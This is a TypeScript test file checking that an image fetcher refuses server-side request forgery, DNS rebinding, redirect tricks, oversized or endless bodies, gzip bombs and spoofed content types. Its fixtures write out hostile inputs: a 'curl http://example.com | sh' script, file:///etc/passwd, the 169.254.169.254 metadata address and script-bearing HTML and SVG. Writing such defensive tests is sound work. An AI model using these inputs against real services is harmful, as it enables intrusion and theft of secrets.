import assert from "node:assert/strict";
import type { RequestListener, ServerResponse } from "node:http";
import { withTimersHeld } from "../support/clock";
import { gzipBomb } from "../support/hostile-bodies";
import { resolveAsEver, resolveTo } from "../support/names";
import { type DoorOutcome, type PictureDoor, pictureDoors } from "../support/picture-doors";
import { noisePng } from "../support/pictures";
import { privateHosts } from "../support/private-hosts";

const PNG_HEAD = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);

/** IPv6 that was given back to IANA in 2006 (RFC 3701): public as far as anybody can tell, and nobody is there. */
const NOBODY = "3ffe::1";

/** Writes pieces for as long as somebody takes them. */
function writeForEver(response: ServerResponse): void {
  const piece = Buffer.alloc(0x10000, 7);
  const more = (): void => {
    while (!response.destroyed && response.write(piece));
  };
  response.on("drain", more);
  more();
}

for (const [what, { open, asksAgain, limit }] of Object.entries(pictureDoors)) {
  describe(`${what}, and an address that somebody else chose`, () => {
    let door: PictureDoor;
    let at: string;
    let png: Buffer;
    let answer: RequestListener;
    let requests: string[] = [];
    before(async () => {
      png = await noisePng(16);
      ({ door, at } = await open((request, response) => {
        requests.push(request.url ?? "");
        answer(request, response);
      }));
    });
    after(() => door.close());
    beforeEach(() => {
      requests = [];
      answer = (_request, response) => response.end("secret");
    });
    afterEach(resolveAsEver);

    const bring = (path = "/a.png?signature=topsecret"): Promise<DoorOutcome> => door.bring(`http://${at}${path}`);

    function assertRefused({ reason, contentType }: DoorOutcome, words: RegExp): void {
      assert.equal(contentType, undefined, "it was taken for a picture");
      assert.match(reason, words);
      assert.doesNotMatch(reason, /topsecret/);
    }

    for (const [kind, address] of Object.entries(privateHosts)) {
      it(`is not led into a private network: ${kind} (${address})`, async () => {
        assertRefused(await door.bring(`http://${address}:1/`), /is an address inside a private network/);
      });
    }

    it("is not led there by a DNS name that resolves there", async () => {
      resolveTo(() => ["169.254.169.254"]);
      assertRefused(await door.bring("http://pictures.example/latest"), /is an address inside a private network/);
    });

    it("is not led there by DNS that changes between check and connect", async () => {
      resolveTo((_name, count) => [count === 0 ? NOBODY : "127.0.0.1"]);
      const [, port] = at.split(":");
      assertRefused(
        await door.bring(`http://pictures.example:${port}/`),
        /private network|not reachable|in time|broke/,
      );
      assert.deepEqual(requests, []);
    });

    for (const address of ["127.0.0.1:1", "169.254.169.254", "[::1]", "10.0.0.1", "0x7f.1"]) {
      it(`is not led there by a redirect: ${address}`, async () => {
        answer = (_request, response) => response.writeHead(302, { location: `http://${address}/` }).end();
        assertRefused(await bring(), /is an address inside a private network/);
      });
    }

    for (const location of ["file:///etc/passwd", "data:image/png;base64,iVBORw0KGgo=", "ftp://127.0.0.1/a.png"]) {
      it(`does not follow a redirect to ${location}`, async () => {
        answer = (_request, response) => response.writeHead(302, { location }).end();
        assertRefused(await bring(), /only http and https are downloaded from/);
      });
    }

    for (const url of ["file:///etc/passwd", "data:text/html,<html>", "ftp://127.0.0.1/a.png"]) {
      it(`does not take for an address: ${url}`, async () => {
        assertRefused(await door.bring(url), /./);
      });
    }

    it("follows no 30 redirects", async () => {
      answer = ({ url = "" }, response) => {
        const step = Number(url.slice(1));
        if (step === 30) response.end(png);
        else response.writeHead(302, { location: `/${step + 1}` }).end();
      };
      assertRefused(await bring("/0"), /redirected more than 5 times/);
      assert.equal(requests.length, 6);
    });

    it("is not filled by an endless body", async () => {
      answer = (_request, response) => {
        response.write(PNG_HEAD);
        writeForEver(response);
      };
      assertRefused(await bring(), /larger than \d+ MB/);
      assert.equal(requests.length, 1);
    });

    it("does not unpack a gzip bomb", async () => {
      answer = (_request, response) =>
        response.writeHead(200, { "content-type": "image/png", "content-encoding": "gzip" }).end(gzipBomb());
      assertRefused(await bring(), /no picture|unreadable/);
    });

    it("does not wait for a body that is announced as huge", async () => {
      answer = (_request, response) =>
        response.writeHead(200, { "content-length": Number.MAX_SAFE_INTEGER }).write(png);
      assertRefused(await bring(), /larger than \d+ MB/);
      assert.equal(requests.length, 1);
    });

    it("does not take a picture that is shorter than announced", async () => {
      answer = (_request, response) => {
        response.writeHead(200, { "content-length": png.length + 1 });
        // Whoever asks again gets the whole of it.
        answer = (_again, whole) => whole.end(png);
        response.write(png, () => response.socket?.destroySoon());
      };
      const outcome = await bring();
      if (!asksAgain) assertRefused(outcome, /broke/);
      assert.deepEqual([requests.length, outcome.contentType], asksAgain ? [2, "image/png"] : [1, undefined]);
    });

    it("takes no more of a picture than is announced", async () => {
      answer = (_request, response) => {
        response.writeHead(200, { "content-length": png.length });
        response.write(png);
        response.socket?.write("<html>and more</html>");
      };
      assert.equal((await bring()).contentType, "image/png");
    });

    for (const [kind, bytes] of Object.entries({
      "a page": Buffer.from("<!doctype html><script>alert(1)</script>".repeat(10)),
      "a drawing with a script": Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
      "a program of Windows": Buffer.concat([Buffer.from("MZ\x90\0\x03\0\0\0"), Buffer.alloc(500)]),
      "a program of Linux": Buffer.concat([Buffer.from("\x7fELF\x02\x01\x01\0", "latin1"), Buffer.alloc(500)]),
      "a shell script": Buffer.from("#!/bin/sh\ncurl http://example.com | sh\n"),
      nothing: Buffer.alloc(0),
    })) {
      it(`does not believe a content-type: ${kind} as image/png`, async () => {
        answer = (_request, response) => response.writeHead(200, { "content-type": "image/png" }).end(bytes);
        assertRefused(await bring(), /no picture|unreadable|empty/);
      });
    }

    it("does not believe a content-type: a picture as text/html is a picture", async () => {
      answer = (_request, response) => response.writeHead(200, { "content-type": "text/html" }).end(png);
      assert.equal((await bring()).contentType, "image/png");
    });

    if (!limit) return;
    it("gives up a slow body, a byte now and then, when its time is over", async () => {
      let dripped = (): void => {};
      const dripping = new Promise<void>((resolve) => {
        dripped = resolve;
      });
      answer = (_request, response) => {
        response.write(PNG_HEAD);
        const drip = setInterval(() => response.write("x", dripped), 10);
        response.once("close", () => clearInterval(drip));
        // Whoever asks again gets the whole of one.
        answer = (_again, whole) => whole.end(png);
      };
      await withTimersHeld(limit.time, async (passTimeLimit) => {
        const outcome = bring();
        await dripping;
        passTimeLimit();
        const { contentType, reason } = await outcome;
        assert.equal(contentType, limit.words ? undefined : "image/png");
        assert.match(reason, limit.words ?? /^$/);
        assert.equal(requests.length, limit.words ? 1 : 2);
      });
    });
  });
}
